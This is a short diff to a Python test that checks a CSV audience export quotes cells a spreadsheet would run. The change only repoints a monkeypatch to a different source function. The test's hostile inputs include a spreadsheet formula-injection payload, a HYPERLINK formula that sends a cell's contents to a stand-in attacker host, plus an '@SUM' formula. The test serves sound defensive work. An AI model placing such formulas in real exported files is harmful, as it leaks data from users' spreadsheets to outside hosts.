@@ -255,11 +255,12 @@ def test_audience_csv_cells_a_spreadsheet_would_run_are_quoted(
 
     import numpy as np
 
+    # Ids that got past ingest (another system wrote the store): the export still holds.
+    import relgraph.jobs.audience as jobs_audience
     from relgraph.analytics.audience import Criteria, campaign_audience
     from relgraph.analytics.audience_source import AudienceSource
 
-    # Ids that got past ingest (another system wrote the store): the export still holds.
-    real = AudienceSource.from_store
+    real = jobs_audience.audience_source
     hostile = [
         '=HYPERLINK("http://evil.example/?x="&A1)',
         "@SUM(1+1)",
@@ -282,7 +283,7 @@ def test_audience_csv_cells_a_spreadsheet_would_run_are_quoted(
             households=dataclasses.replace(households, ids=units, orders={}),
         )
 
-    monkeypatch.setattr(AudienceSource, "from_store", from_store)
+    monkeypatch.setattr(jobs_audience, "audience_source", from_store)
     out = tmp_path / "audience.csv"
     result = _export(analysed, _criteria(tmp_path, '{"unit": "HOUSEHOLD", "minSize": 1}'), out)
     assert result.exit_code == 0, result.output
